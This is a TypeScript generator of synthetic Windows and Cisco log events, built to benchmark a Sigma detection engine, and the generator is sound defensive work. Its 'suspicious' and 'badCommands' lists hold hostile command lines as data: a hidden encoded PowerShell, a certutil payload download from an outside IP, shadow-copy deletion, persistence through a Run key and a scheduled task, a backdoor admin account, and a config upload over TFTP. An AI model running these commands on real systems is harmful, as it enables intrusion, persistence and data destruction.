/**
 * Event lanes in the shapes of the published Sigma benchmarks (the fixtures of rsigma, scripts/perf/gen_events.py, MIT):
 * the same fields, sizes and share of suspicious events, so that figures can be held beside theirs. Every event carries
 * its log source as `product`, `category` and `service`.
 */
import { random } from './random.js'

type Next = () => number

export const lanes: Readonly<Record<string, (next: Next) => Readonly<Record<string, unknown>>>> = {
  structured: (next) => structured(next, 0.02),
  'match heavy': (next) => structured(next, 0.8),
  'file events': fileEvent,
  'raw text': rawText,
  'network syslog': syslog,
  'no match': noMatch,
}

/** The events of a lane as JSON lines. */
export function linesOf(lane: string, count: number, seed: number): string[] {
  const next = random(seed)
  const make = lanes[lane]
  return make === undefined ? [] : Array.from({ length: count }, () => JSON.stringify(make(next)))
}

const lines = (text: string): readonly string[] => text.trim().split('\n')

const images = lines(String.raw`
C:\Windows\System32\svchost.exe
C:\Windows\System32\tasklist.exe
C:\Windows\explorer.exe
C:\Program Files\Google\Chrome\Application\chrome.exe
C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE
C:\Windows\System32\conhost.exe
C:\Windows\System32\wbem\WmiPrvSE.exe
C:\Program Files\Mozilla Firefox\firefox.exe
C:\Windows\System32\dllhost.exe
C:\Windows\System32\SearchIndexer.exe`)

const everyday = lines(String.raw`
C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule
tasklist /svc /fo csv
"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer
C:\Windows\System32\conhost.exe 0xffffffff -ForceV1
"C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc --channel=1234
C:\Windows\System32\wbem\WmiPrvSE.exe -secured -Embedding
C:\Windows\System32\SearchIndexer.exe /Embedding
"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle`)

const suspicious = lines(String.raw`
powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA
rundll32.exe javascript:\..\mshtml,RunHTMLApplication
certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\Users\Public\p.exe
whoami /priv
reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\Users\Public\u.exe
wmic process call create cmd.exe /c C:\Users\Public\stage2.bat
cmd.exe /c vssadmin delete shadows /all /quiet
schtasks /create /tn Updater /tr C:\Users\Public\u.exe /sc onlogon /ru SYSTEM
net user backdoor P@ssw0rd1 /add && net localgroup administrators backdoor /add`)

const parents = lines(String.raw`
C:\Windows\System32\services.exe
C:\Windows\explorer.exe
C:\Windows\System32\cmd.exe
C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
C:\Windows\System32\winlogon.exe`)

const users = lines(String.raw`
NT AUTHORITY\SYSTEM
CORP\alice
CORP\bob
CORP\svc-backup
NT AUTHORITY\NETWORK SERVICE`)

const hosts = ['ws-0042', 'ws-1187', 'srv-file01', 'srv-dc01', 'lt-3301']

function pick<T>(all: readonly T[], next: Next): T {
  return all[Math.floor(next() * all.length)] as T
}

function below(next: Next, end: number): number {
  return Math.floor(next() * end)
}

function hex(next: Next, length: number): string {
  return Array.from({ length }, () => below(next, 16).toString(16)).join('')
}

function guid(next: Next): string {
  return [8, 4, 4, 4, 12].map((length) => hex(next, length)).join('-')
}

function clock(next: Next): string {
  const two = (end: number): string => String(below(next, end)).padStart(2, '0')
  return `11:${two(60)}:${two(60)}.${String(below(next, 1000)).padStart(3, '0')}`
}

function commandLine(next: Next, share: number): string {
  return pick(next() < share ? suspicious : everyday, next)
}

function structured(next: Next, share: number): Record<string, unknown> {
  const command = commandLine(next, share)
  const first = command.split(' ')[0]?.replaceAll('"', '') ?? ''
  const image = first.startsWith('C:') ? first : pick(images, next)
  return {
    EventID: 1,
    Image: image,
    CommandLine: command,
    ParentImage: pick(parents, next),
    ParentCommandLine: pick(everyday, next),
    User: pick(users, next),
    IntegrityLevel: pick(['Medium', 'High', 'System'], next),
    CurrentDirectory: 'C:\\Windows\\system32\\\\',
    LogonId: `0x${hex(next, 5)}`,
    ProcessId: 1000 + below(next, 64000),
    ParentProcessId: 1000 + below(next, 64000),
    ProcessGuid: guid(next),
    Hashes: `SHA256=${hex(next, 64).toUpperCase()}`,
    OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
    Computer: pick(hosts, next),
    UtcTime: `2026-07-28 ${clock(next)}`,
    product: 'windows',
    category: 'process_creation',
  }
}

const targets = lines(String.raw`
C:\Users\user1\Downloads\report-q3.pdf
C:\Users\user1\Documents\notes.docx
C:\Users\user1\AppData\Local\Temp\chrome_installer.log
C:\ProgramData\Microsoft\Windows Defender\Support\MPLog.log
C:\Windows\Temp\MpCmdRun.log`)

const badTargets = lines(String.raw`
C:\Users\user1\Downloads\document.pdf.exe
C:\Users\user1\Downloads\invoice.docx.scr
C:\Users\Public\payload.exe
C:\Users\user1\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\upd.exe
C:\Windows\Temp\svch0st.exe`)

function fileEvent(next: Next): Record<string, unknown> {
  const host = pick(hosts, next)
  return {
    EventID: '11',
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Provider_Name: 'Microsoft-Windows-Sysmon',
    Computer: host,
    Image: pick(images, next),
    TargetFilename: pick(next() < 0.05 ? badTargets : targets, next),
    CreationUtcTime: `2026-01-15 ${clock(next)}`,
    ProcessGuid: guid(next),
    ProcessId: 1000 + below(next, 64000),
    User: `${host}\\user1`,
    product: 'windows',
    category: 'file_event',
  }
}

function rawText(next: Next): Record<string, unknown> {
  const command = commandLine(next, 0.1)
  const host = pick(hosts, next)
  const body = [
    `A new process has been created.    Creator Subject:   Security ID:  ${pick(users, next)}   Account Name:  ${host}$`,
    `Account Domain:  CORP   Logon ID:  0x${hex(next, 3)}    Target Subject:   Security ID:  \\NULL SID   Account Name:  -`,
    `Process Information:   New Process ID:  0x${hex(next, 4)}   New Process Name: ${command.split(' ')[0] ?? ''}`,
    `Token Elevation Type: %%1936   Mandatory Label:  Mandatory Label\\Medium Mandatory Level   Creator Process ID: 0x${hex(next, 4)}`,
    `Creator Process Name: ${pick(parents, next)}   Process Command Line: ${command}`,
  ].join('   ')
  return {
    message: `<131>Jul 28 ${clock(next)} ${host}-hdr MSWinEventLog\t1\tSecurity\t4688\tSuccess Audit\t${host}\t${body}`,
    product: 'windows',
  }
}

const commands = lines(String.raw`
show version
show ip interface brief
ping 10.20.30.1 repeat 5
show vlan brief
show cdp neighbors detail
traceroute 192.0.2.10`)

const badCommands = lines(String.raw`
set span source interface GigabitEthernet0/1 destination interface GigabitEthernet0/2 both
show running-config
copy running-config tftp://198.51.100.9/rc.cfg
clear logging
crypto key generate rsa modulus 2048`)

function syslog(next: Next): Record<string, unknown> {
  const command = pick(next() < 0.1 ? badCommands : commands, next)
  return {
    message: `<189>Jan ${1 + below(next, 28)} ${clock(next)} core-sw0${below(next, 9)} %AAA-5-USER_LOGGED: User netadmin executed: ${command}`,
    product: 'cisco',
    service: 'aaa',
  }
}

function noMatch(next: Next): Record<string, unknown> {
  return Object.fromEntries([
    ...Array.from({ length: 8 }, (_, i) => [`f${i}`, hex(next, 24)]),
    ['product', 'synthetic'],
  ]) as Record<string, unknown>
}
